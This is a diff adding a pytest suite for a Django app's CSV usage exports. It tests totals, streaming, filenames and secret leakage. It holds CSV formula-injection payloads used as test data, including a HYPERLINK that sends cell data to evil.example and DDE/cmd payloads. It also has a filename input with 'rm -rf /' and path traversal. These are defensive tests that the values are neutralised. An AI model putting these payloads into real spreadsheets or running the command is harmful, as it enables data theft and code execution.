@@ -1,0 +1,577 @@
+"""CSV exports (reports/exports.py, the export views, manage.py export_usage): C1-C5, provenance."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import re
+import tracemalloc
+from datetime import UTC, datetime, timedelta
+from decimal import Decimal
+from typing import Any
+
+import pytest
+from django.core.management import call_command
+from django.core.management.base import CommandError
+from django.db import connection as db_connection
+from django.db import transaction
+from django.http import StreamingHttpResponse
+from django.test import Client
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from reports import crypto, exports, pricing
+from reports.metrics import FLAG_FIELDS, PRICED
+from reports.models import Bucket, PriceBook, Report, ReportBucket
+from reports.pages.report import report_buckets
+from reports.usage import rows_from_buckets
+from tests.factories import (
+    make_bucket_file,
+    make_connection,
+    make_done_bucket,
+    make_done_report,
+    make_team,
+    make_user,
+    share_with,
+    usage,
+)
+from tests.support import figures
+
+JAN = datetime(2026, 1, 1, tzinfo=UTC)
+APR = datetime(2026, 4, 1, tzinfo=UTC)
+FORMULA_PAYLOADS = [
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    '=cmd|" /C calc"!A0',
+    "+SUM(A1:A9)",
+    "-2+3",
+    "-",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "=",
+    "+",
+    "@",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+]
+
+
+def client_for(user: Any) -> Client:
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+def download(client: Client, url: str) -> tuple[StreamingHttpResponse, list[dict[str, str]]]:
+    response = client.get(url)
+    assert response.status_code == 200, url
+    assert isinstance(response, StreamingHttpResponse)
+    text = b"".join(response.streaming_content).decode("utf-8")
+    return response, list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def csv_total(rows: list[dict[str, str]]) -> Decimal:
+    return sum((Decimal(r["cost_total"]) for r in rows), Decimal(0))
+
+
+def page_total(report: Report) -> Decimal:
+    """The report page's total, computed the way the page computes it (reports/pages/report.py)."""
+    rows = rows_from_buckets(report_buckets(report))
+    return pricing.sum_costs(pricing.rows_costs(rows, pricing.price_book_for(report)))["total"]
+
+
+# --- Contents and provenance ------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_report_csv_has_a_row_per_bucket_with_units_raw_values_cost_and_provenance() -> None:
+    owner = make_user("alice")
+    report = make_done_report(owner, [make_connection(owner, "Prod")])
+    first = Bucket.objects.filter(report_buckets__report=report).order_by("period_start").first()
+    archived = make_bucket_file(first, b'{"rows": [1, 2, 3]}')
+
+    response, rows = download(client_for(owner), reverse("report_export_csv", args=[report.pk]))
+
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="osai-usage-report-{report.pk}-2026-01-01-2026-04-01.csv"'
+    )
+    assert list(rows[0]) == exports.export_columns(team=False, with_cost=True)
+    assert [r["period_start"] for r in rows] == [
+        "2026-01-01T00:00:00Z",
+        "2026-02-01T00:00:00Z",
+        "2026-03-01T00:00:00Z",
+    ]
+    january = rows[0]
+    assert january["period_end"] == "2026-02-01T00:00:00Z"
+    assert january["preliminary"] == "false"
+    assert january["connection"] == "Prod"
+    # usage(seed=1): 7200 s of 8 GB training = 2 GPU-hours; 5e9 KB-min = 0.1104 GB-months.
+    assert january["training_8gb_gpu_hours"] == "2"
+    assert january["totalTrainingSeconds8GB"] == "7200"
+    assert january["totalImagesKBMin"] == "5000000000"
+    assert january["image_storage_gb_months"] == "0.110378972"
+    assert january["existing_images"] == "1001"
+    assert january["cost_training_8gb"] == "2.4000000000"  # 2 h x 1.20 (example book)
+    assert january["currency"] == "EUR"
+    assert january["price_book"] == "Example price book"
+    assert january["price_book_versions"] == "2020-01-01T00:00:00Z"
+    assert january["osai_report_id"] == str(first.osai_report_id)
+    assert january["osai_creation_time"] == "2026-02-10T14:33:33.7629037Z"
+    assert all(january[flag] == "true" for flag in FLAG_FIELDS)
+    assert january["raw_json_sha256"] == archived.sha256
+    assert archived.sha256 == hashlib.sha256(b'{"rows": [1, 2, 3]}').hexdigest()
+    assert rows[1]["raw_json_sha256"] == ""
+    cost_columns = [m.cost_header for m in PRICED]
+    for row in rows:  # the total column is the sum of the category columns, exactly
+        assert Decimal(row["cost_total"]) == sum(Decimal(row[c]) for c in cost_columns)
+    assert "TOTAL" not in {r["period_start"] for r in rows}  # no total row: one row per bucket
+
+
+@pytest.mark.django_db
+def test_cost_columns_can_be_left_out() -> None:
+    owner = make_user()
+    report = make_done_report(owner)
+    _, rows = download(
+        client_for(owner), reverse("report_export_csv", args=[report.pk]) + "?cost=0"
+    )
+    assert list(rows[0]) == exports.export_columns(team=False, with_cost=False)
+    assert not any(c.startswith("cost_") or c == "currency" for c in rows[0])
+
+
+@pytest.mark.django_db
+def test_unfinished_buckets_are_not_exported() -> None:
+    owner = make_user()
+    conn = make_connection(owner)
+    report = make_done_report(owner, [conn], state=Report.State.PARTIAL)
+    Bucket.objects.filter(report_buckets__report=report, period_start=JAN).update(
+        state=Bucket.State.ERROR
+    )
+    _, rows = download(client_for(owner), reverse("report_export_csv", args=[report.pk]))
+    assert [r["period_start"] for r in rows] == ["2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z"]
+
+
+@pytest.mark.django_db
+def test_team_csv_has_member_and_connection_columns() -> None:
+    admin, member = make_user("ann"), make_user("ben")
+    team = make_team(admins=[admin], members=[member])
+    conns = [make_connection(admin, "A1"), make_connection(member, "B1")]
+    share_with(team, *conns)
+    report = make_done_report(admin, conns, team=team)
+    response, rows = download(
+        client_for(admin), reverse("team_report_export_csv", args=[team.pk, report.pk])
+    )
+    filename = f"osai-usage-team-{team.pk}-report-{report.pk}-2026-01-01-2026-04-01.csv"
+    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
+    assert list(rows[0]) == exports.export_columns(team=True, with_cost=True)
+    assert [(r["member"], r["connection"]) for r in rows[:2]] == [("ann", "A1"), ("ben", "B1")]
+    assert len(rows) == 6
+
+
+# --- C2: the CSV total is the page total, numbers stay numbers ---------------------------------
+
+
+@pytest.mark.django_db
+def test_csv_total_equals_the_page_total_to_the_cent() -> None:
+    owner = make_user()
+    single = make_done_report(owner, [make_connection(owner)])
+    _, rows = download(client_for(owner), reverse("report_export_csv", args=[single.pk]))
+    assert csv_total(rows) == page_total(single)  # one bucket per period: even to 10^-10
+    # With several connections the page prices each period's summed usage and the CSV each
+    # bucket: the two differ by at most one 10^-10 quantum per bucket, far below a cent.
+    combined = make_done_report(owner, [make_connection(owner), make_connection(owner)])
+    _, rows = download(client_for(owner), reverse("report_export_csv", args=[combined.pk]))
+    assert pricing.money(csv_total(rows)) == pricing.money(page_total(combined))
+    assert abs(csv_total(rows) - page_total(combined)) <= len(rows) * pricing.COST_QUANTUM
+
+
+raw_usage = st.floats(min_value=0, max_value=1e12, allow_nan=False, allow_infinity=False)
+
+
+@pytest.mark.django_db
+@settings(
+    max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(st.lists(st.tuples(raw_usage, raw_usage, raw_usage), min_size=1, max_size=6))
+def test_csv_total_equals_page_total_for_any_usage(
+    values: list[tuple[float, float, float]],
+) -> None:
+    with transaction.atomic():
+        owner = make_user()
+        conn = make_connection(owner)
+        report = Report.objects.create(
+            owner=owner,
+            period_start=datetime(2025, 1, 1, tzinfo=UTC),
+            period_end=datetime(2025, 1 + len(values), 1, tzinfo=UTC),
+        )
+        for i, (train, images, rental) in enumerate(values, start=1):
+            bucket = make_done_bucket(
+                conn, datetime(2025, i, 1, tzinfo=UTC), datetime(2025, i + 1, 1, tzinfo=UTC)
+            )
+            Bucket.objects.filter(pk=bucket.pk).update(
+                training_seconds_16gb=train, images_kb_min=images, device_rental_seconds=rental
+            )
+            report.report_buckets.create(bucket=bucket)
+        lines = list(
+            exports.csv_lines(
+                exports.export_rows(
+                    Bucket.objects.filter(report_buckets__report=report),
+                    team=False,
+                    with_cost=True,
+                    price_book=pricing.price_book_for(report),
+                )
+            )
+        )
+        rows = list(csv.DictReader(io.StringIO("".join(lines), newline="")))
+        assert pricing.money(csv_total(rows)) == pricing.money(page_total(report))
+        transaction.set_rollback(True)
+
+
+@pytest.mark.django_db
+def test_negative_amounts_stay_numbers() -> None:
+    owner = make_user()
+    report = make_done_report(owner, [make_connection(owner, "-credit")])
+    Bucket.objects.filter(report_buckets__report=report).update(training_seconds_8gb=-3600.0)
+    _, rows = download(client_for(owner), reverse("report_export_csv", args=[report.pk]))
+    assert rows[0]["totalTrainingSeconds8GB"] == "-3600"
+    assert rows[0]["training_8gb_gpu_hours"] == "-1"
+    assert rows[0]["cost_training_8gb"] == "-1.2000000000"
+    assert rows[0]["connection"] == "'-credit"  # text that starts with "-" is neutralised
+    assert exports.cell(Decimal("-1.50")) == "-1.50"
+    assert exports.cell(-3) == "-3"
+    assert exports.cell(-2.5) == "-2.5"
+    assert exports.cell(1.4956327299571348e18) == "1.4956327299571348e+18"
+
+
+# --- C1 and C3: formulas neutralised, text round-trips ------------------------------------------
+
+
+text = st.text(
+    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40
+)
+
+
+@pytest.mark.django_db
+def test_formula_payloads_are_neutralised(capsys: pytest.CaptureFixture[str]) -> None:
+    # Known payloads, through the real download.
+    owner = make_user()
+    conns = [make_connection(owner, label) for label in FORMULA_PAYLOADS]
+    report = make_done_report(owner, conns, start=JAN, end=datetime(2026, 2, 1, tzinfo=UTC))
+    _, rows = download(client_for(owner), reverse("report_export_csv", args=[report.pk]))
+    labels = sorted(r["connection"] for r in rows)
+    assert labels == sorted("'" + p for p in FORMULA_PAYLOADS)
+    neutralised = sum(label.startswith("'") for label in labels)
+    for row in rows:  # and no other cell of any row starts a formula
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "@", "\t", "\r", "\n")), (column, value)
+
+    # Generated payloads: any text after any formula character, cell by cell.
+    generated = {"tried": 0, "neutralised": 0}
+
+    @settings(max_examples=300, deadline=None)
+    @given(st.sampled_from(exports.FORMULA_PREFIXES), text)
+    def check(prefix: str, rest: str) -> None:
+        value = exports.cell(prefix + rest)
+        generated["tried"] += 1
+        generated["neutralised"] += value == "'" + prefix + rest
+        assert value == "'" + prefix + rest
+
+    check()
+    tried = len(FORMULA_PAYLOADS) + generated["tried"]
+    total = neutralised + generated["neutralised"]
+    figures.figure("C1 payloads tried", tried)
+    figures.figure("C1 payloads neutralised", total)
+    with capsys.disabled():
+        print(f"\nC1: {total} payloads neutralised of {tried} tried")
+    assert total == tried
+
+
+def test_text_that_does_not_start_a_formula_is_left_alone() -> None:
+    for value in ("Prod", "'quoted", " =spaced", "1-2", "a=b", "", "€5"):
+        assert exports.cell(value) == value
+
+
+@settings(max_examples=300)
+@given(st.lists(st.lists(text, min_size=1, max_size=5), min_size=1, max_size=5))
+def test_text_cells_survive_a_round_trip_through_csv_reader(table: list[list[str]]) -> None:
+    cells = [[exports.cell(value) for value in row] for row in table]
+    payload = "".join(exports.csv_lines(cells)).encode("utf-8")
+    assert list(csv.reader(io.StringIO(payload.decode("utf-8"), newline=""))) == cells
+    for original, row in zip(table, cells, strict=True):
+        for value, written in zip(original, row, strict=True):
+            assert written in (value, "'" + value)
+
+
+@pytest.mark.django_db
+def test_commas_quotes_newlines_and_non_ascii_survive_the_download() -> None:
+    owner = make_user()
+    label = 'Prod, "EU"\nzweite Zeile; Zürich 東京 🚀'
+    report = make_done_report(owner, [make_connection(owner, label)])
+    _, rows = download(client_for(owner), reverse("report_export_csv", args=[report.pk]))
+    assert {r["connection"] for r in rows} == {label}
+
+
+# --- C4: streamed, O(1) queries -------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_export_query_count_does_not_grow_with_buckets(django_assert_num_queries: Any) -> None:
+    owner = make_user()
+    conn = make_connection(owner)
+    small = make_done_report(
+        owner,
+        [conn],
+        granularity="day",
+        start=datetime(2025, 1, 1, tzinfo=UTC),
+        end=datetime(2025, 1, 6, tzinfo=UTC),
+    )
+    big = make_done_report(
+        owner,
+        [conn],
+        granularity="day",
+        start=datetime(2025, 2, 1, tzinfo=UTC),
+        end=datetime(2025, 8, 20, tzinfo=UTC),
+    )
+    assert (small.buckets.count(), big.buckets.count()) == (5, 200)
+    client = client_for(owner)
+    counts = []
+    for report, n in ((small, 5), (big, 200)):
+        with CaptureQueriesContext(db_connection) as queries:
+            response = client.get(reverse("report_export_csv", args=[report.pk]))
+            body = b"".join(response.streaming_content)
+        assert body.count(b"\r\n") == n + 1
+        counts.append(len(queries.captured_queries))
+    assert counts[0] == counts[1]
+    # The rows themselves: the price book, its versions, then one query for all buckets.
+    report = Report.objects.get(pk=big.pk)
+    with django_assert_num_queries(3):
+        list(
+            exports.export_rows(
+                Bucket.objects.filter(report_buckets__report=report),
+                team=False,
+                with_cost=True,
+                price_book=pricing.price_book_for(report),
+            )
+        )
+
+
+def _bulk_report(owner: Any, days: int) -> Report:
+    """A report with one finished daily bucket per day, written in bulk (fast for big N)."""
+    conn = make_connection(owner)
+    start = datetime(2020, 1, 1, tzinfo=UTC)
+    report = Report.objects.create(
+        owner=owner, period_start=start, period_end=start + timedelta(days=days), granularity="day"
+    )
+    values = usage(1)
+    buckets = Bucket.objects.bulk_create(
+        Bucket(
+            connection=conn,
+            period_start=start + timedelta(days=i),
+            period_end=start + timedelta(days=i + 1),
+            is_closed=True,
+            state=Bucket.State.DONE,
+            osai_report_id=i,
+            osai_creation_time_raw="x",
+            **values,
+        )
+        for i in range(days)
+    )
+    ReportBucket.objects.bulk_create(ReportBucket(report=report, bucket=b) for b in buckets)
+    return report
+
+
+@pytest.mark.django_db
+def test_export_memory_stays_flat_as_rows_grow() -> None:
+    owner = make_user()
+    peaks = []
+    for days in (1000, 5000):  # both above one chunk (CHUNK_SIZE rows)
+        report = _bulk_report(owner, days)
+        lines = exports.csv_lines(
+            exports.export_rows(
+                Bucket.objects.filter(report_buckets__report=report),
+                team=False,
+                with_cost=True,
+                price_book=pricing.price_book_for(report),
+            )
+        )
+        tracemalloc.start()
+        count = sum(1 for _ in lines)  # consumed line by line, as the response streams it
+        peaks.append(tracemalloc.get_traced_memory()[1])
+        tracemalloc.stop()
+        assert count == days + 1
+    # Five times the rows, not five times the memory: only one chunk of rows is held at a time.
+    assert peaks[1] < 1.5 * peaks[0], peaks
+    figures.figure(
+        "C4 export peak KiB (1000 / 5000 rows)", f"{peaks[0] // 1024} / {peaks[1] // 1024}"
+    )
+
+
+@pytest.mark.django_db
+def test_export_streams_lazily() -> None:
+    owner = make_user()
+    report = make_done_report(owner)
+    response = client_for(owner).get(reverse("report_export_csv", args=[report.pk]))
+    assert response.streaming
+    first = next(iter(response.streaming_content))
+    assert first.startswith(b"period_start,period_end,preliminary,connection,")
+
+
+# --- C5: filenames ------------------------------------------------------------------------------
+
+
+@settings(max_examples=200)
+@given(st.lists(st.one_of(text, st.integers()), min_size=1, max_size=4))
+def test_filenames_are_ascii_slugs(parts: list[Any]) -> None:
+    name = exports.safe_filename(*parts)
+    assert re.fullmatch(r"[a-z0-9][a-z0-9-]*\.csv|export\.csv", name), name
+    assert len(name) <= 154
+
+
+def test_filename_drops_quotes_newlines_and_path_parts() -> None:
+    name = exports.safe_filename('Zürich "team"; rm -rf /\r\nSet-Cookie: x', "../../etc", 7)
+    assert name == "zurich-team-rm-rf-set-cookie-x-etc-7.csv"
+
+
+# --- Secrets ----------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_no_token_jwt_or_signed_url_in_any_csv() -> None:
+    owner = make_user()
+    token = "osai-CANARY-token-0123456789-zz9"
+    conn = make_connection(owner, "Canary", token=token)
+    conn.jwt_encrypted = crypto.encrypt_secret("eyJhbGciOi.CANARY-JWT.sig")
+    conn.save()
+    report = make_done_report(owner, [conn])
+    signed = "https://storage.example/r.json?Expires=1&Signature=CANARY-SIGNATURE"
+    for bucket in Bucket.objects.filter(report_buckets__report=report):
+        bucket.osai_response = {**(bucket.osai_response or {}), "path": signed}
+        bucket.save()
+    client = client_for(owner)
+    texts = [
+        b"".join(client.get(reverse("report_export_csv", args=[report.pk]) + q).streaming_content)
+        for q in ("", "?cost=0")
+    ]
+    out = io.StringIO()
+    call_command(
+        "export_usage",
+        user=owner.username,
+        date_from="2026-01-01",
+        date_to="2026-04-01",
+        cost=True,
+        stdout=out,
+    )
+    texts.append(out.getvalue().encode())
+    secrets = [token, token[:-4], "CANARY", conn.token_encrypted, conn.jwt_encrypted, "Signature="]
+    hits = sum(secret.encode() in body for body in texts for secret in secrets)
+    figures.figure("CSV canary hits", hits)
+    assert hits == 0
+
+
+# --- manage.py export_usage -------------------------------------------------------------------
+
+
+@pytest.fixture
+def cli_world(db: Any) -> dict[str, Any]:
+    admin, member = make_user("ann"), make_user("ben")
+    team = make_team("Vision", admins=[admin], members=[member])
+    conns = [make_connection(admin, "A1"), make_connection(member, "B1")]
+    share_with(team, *conns)
+    report = make_done_report(admin, conns, team=team)
+    return {"admin": admin, "member": member, "team": team, "conns": conns, "report": report}
+
+
+def run_export(**options: Any) -> tuple[list[dict[str, str]], str]:
+    out, err = io.StringIO(), io.StringIO()
+    call_command("export_usage", stdout=out, stderr=err, **options)
+    return list(csv.DictReader(io.StringIO(out.getvalue(), newline=""))), err.getvalue()
+
+
+def test_cli_exports_a_users_buckets_without_cost_by_default(cli_world: dict[str, Any]) -> None:
+    rows, _ = run_export(
+        user="ben", date_from="2026-01-01", date_to="2026-04-01", granularity="month"
+    )
+    assert list(rows[0]) == exports.export_columns(team=False, with_cost=False)
+    assert [(r["connection"], r["period_start"]) for r in rows] == [
+        ("B1", "2026-01-01T00:00:00Z"),
+        ("B1", "2026-02-01T00:00:00Z"),
+        ("B1", "2026-03-01T00:00:00Z"),
+    ]
+
+
+def test_cli_team_export_with_cost_matches_the_web_export(cli_world: dict[str, Any]) -> None:
+    w = cli_world
+    rows, _ = run_export(team="Vision", date_from="2026-01-01", date_to="2026-04-01", cost=True)
+    assert list(rows[0]) == exports.export_columns(team=True, with_cost=True)
+    _, web = download(
+        client_for(w["admin"]),
+        reverse("team_report_export_csv", args=[w["team"].pk, w["report"].pk]),
+    )
+    assert rows == web
+    assert pricing.money(csv_total(rows)) == pricing.money(page_total(w["report"]))
+
+
+def test_cli_connection_filter_and_price_book_option(cli_world: dict[str, Any]) -> None:
+    rows, _ = run_export(
+        user="ann",
+        connection=["A1"],
+        date_from="2026-02-01",
+        date_to="2026-03-01",
+        cost=True,
+        price_book="Example price book",
+    )
+    assert [r["connection"] for r in rows] == ["A1"]
+    with pytest.raises(CommandError, match="no connection"):
+        run_export(user="ann", connection=["Nope"], date_from="2026-02-01", date_to="2026-03-01")
+    with pytest.raises(CommandError, match="No price book"):
+        run_export(
+            user="ann",
+            date_from="2026-02-01",
+            date_to="2026-03-01",
+            cost=True,
+            price_book="Missing",
+        )
+    PriceBook.objects.update(is_default=False)
+    with pytest.raises(CommandError, match="No default price book"):
+        run_export(user="ann", date_from="2026-02-01", date_to="2026-03-01", cost=True)
+
+
+def test_cli_reports_missing_buckets_and_exits_non_zero(
+    cli_world: dict[str, Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from reports import connections
+
+    def no_osai(*args: Any, **kwargs: Any) -> None:
+        raise AssertionError("export_usage must not call OSAI")
+
+    monkeypatch.setattr(connections, "osai_client_for", no_osai)
+    out, err = io.StringIO(), io.StringIO()
+    with pytest.raises(CommandError, match="2 of 8 buckets are not finished"):
+        call_command(
+            "export_usage",
+            team="Vision",
+            date_from="2025-12-01",
+            date_to="2026-04-01",
+            stdout=out,
+            stderr=err,
+        )
+    assert out.getvalue() == ""  # nothing half-written
+    message = err.getvalue()
+    assert "ann / A1: 2025-12-01T00:00:00Z .. 2026-01-01T00:00:00Z" in message
+    assert "ben / B1: 2025-12-01T00:00:00Z" in message
+    assert (
+        "python manage.py generate_report --user ann --connection A1 --from 2025-12-01 "
+        "--to 2026-04-01 --granularity month"
+    ) in message
+    assert "--wait" in message
+
+
+def test_cli_flags_select_buckets_of_exactly_those_categories(cli_world: dict[str, Any]) -> None:
+    with pytest.raises(CommandError, match="not finished"):
+        run_export(user="ann", date_from="2026-01-01", date_to="2026-02-01", flags="models")
+    with pytest.raises(CommandError, match="Unknown flags"):
+        run_export(user="ann", date_from="2026-01-01", date_to="2026-02-01", flags="gpus")
